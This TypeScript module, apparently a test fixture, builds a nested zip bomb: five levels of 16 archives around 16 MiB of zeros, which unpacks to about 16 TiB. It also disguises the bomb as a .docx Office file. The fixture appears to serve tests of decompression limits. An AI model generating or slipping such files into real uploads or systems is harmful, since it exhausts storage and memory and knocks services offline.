/** An archive of archives of archives, made to fill whatever unpacks it: some kilobytes that say they are terabytes. */
import { crc32, deflateRawSync } from 'node:zlib'

const MIB = 1024 * 1024

/** Archives in each archive, and how often that is done again. */
const EACH = 16
const DEPTH = 5

/** Bytes in the innermost. */
const ZEROS = 16 * MIB

/** Bytes that unpacking all of it would give. */
export const UNPACKED = ZEROS * EACH ** DEPTH

/** The archive, and the same as an Office document would be: by what it holds at its beginning is it known as one. */
export function nestedZip(): { readonly zip: Buffer; readonly docx: Buffer } {
  const zeros = Buffer.alloc(ZEROS)
  let zip = zipOf([['0.bin', zeros]])
  for (let level = 0; level < DEPTH; level += 1) {
    const inner = zip
    zip = zipOf(Array.from({ length: EACH }, (_, index) => [`${index}.zip`, inner] as const))
  }
  return {
    zip,
    docx: zipOf([
      ['[Content_Types].xml', zeros],
      ['word/document.xml', zip],
    ]),
  }
}

/** APPNOTE.TXT of PKWARE: each entry after its header, then the directory of them all, and where that begins. */
function zipOf(entries: readonly (readonly [name: string, bytes: Buffer])[]): Buffer {
  const parts: Buffer[] = []
  const directory: Buffer[] = []
  let at = 0
  for (const [name, bytes] of entries) {
    const packed = deflateRawSync(bytes, { level: 9 })
    const common = Buffer.alloc(26)
    common.writeUInt16LE(20, 0)
    common.writeUInt16LE(8, 4)
    common.writeUInt32LE(crc32(bytes), 10)
    common.writeUInt32LE(packed.length, 14)
    common.writeUInt32LE(bytes.length, 18)
    common.writeUInt16LE(name.length, 22)
    const local = Buffer.concat([Buffer.from('504b0304', 'hex'), common, Buffer.from(name), packed])
    const place = Buffer.alloc(14)
    place.writeUInt32LE(at, 10)
    directory.push(Buffer.from('504b01021400', 'hex'), common, place, Buffer.from(name))
    parts.push(local)
    at += local.length
  }
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(Buffer.concat(directory).length, 8)
  end.writeUInt32LE(at, 12)
  return Buffer.concat([...parts, ...directory, Buffer.from('504b0506', 'hex'), end])
}
